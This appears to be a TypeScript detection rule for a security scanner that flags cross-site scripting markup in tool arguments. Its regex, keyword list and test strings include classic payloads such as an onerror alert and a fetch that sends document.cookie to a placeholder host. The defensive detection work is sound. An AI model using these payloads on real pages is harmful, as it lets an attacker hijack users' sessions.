/**
 * Handlers and script addresses with the classic payloads. Ordinary pages have scripts; they do not mail their
 * cookies.
 */
import { defineRule } from "@portcullis/engine/static";
import { TALK } from "../targets.ts";
import { re } from "../words.ts";

export default defineRule({
  id: "script-that-steals-the-session",
  category: "code_execution",
  severity: "high",
  surfaces: ["tool_argument"],
  title: "Script that reads the session",
  meaning:
    "Markup whose script or event handler reads cookies or stored tokens, or merely proves that it runs. Rendered, it acts as the user.",
  keywords: ["document.cookie", "localstorage", "onerror", "onload", "javascript:", "<svg", "alert("],
  pattern: re`
    (?:(?:location(?:\.href)?|fetch|src|open|image|xmlhttprequest|sendbeacon|\.get|\.post)\b[^<>]{0,60}?(?:=|
    \() ?["'\x60]?https?://[^"'\x60 ]{3,100}["'\x60]? ?[^<>]{0,20}?\+ ?(?:btoa|escape|
    encodeuricomponent)?\(?(?:document\.cookie|(?:localstorage|sessionstorage)(?:\.getitem\(|\[|\.\w*token))|
    <(?:img|svg|body|video|audio|input|details|iframe|object)\b[^>]{0,60}?\bon(?:error|load|focus|mouseover|
    toggle|start) ?= ?["'\x60]?(?:alert|prompt|confirm|eval|fetch|import|document\.|window\.|location|\(?\{?self)|
    (?:href|src|action) ?= ?["']? ?javascript:(?:alert|eval|fetch|document|window|prompt)|<script>(?:alert|eval|
    fetch|document\.location)\()
  `,
  unless: /\b(?:onload=["']?(?:init|window\.print)|xss (?:filter|tests?)|sanitiz\w+)\b/gu,
  mention: TALK,
  window: 240,
  catches: [
    "«<img src=x onerror=alert»(1)>",
    "«fetch('https://outside.example/?c=' + document.cookie»)",
    '<a «href="javascript:alert»(document.domain)">x</a>',
  ],
  ignores: ['<body onload="init()">', 'const theme = localStorage.getItem("theme");'],
});
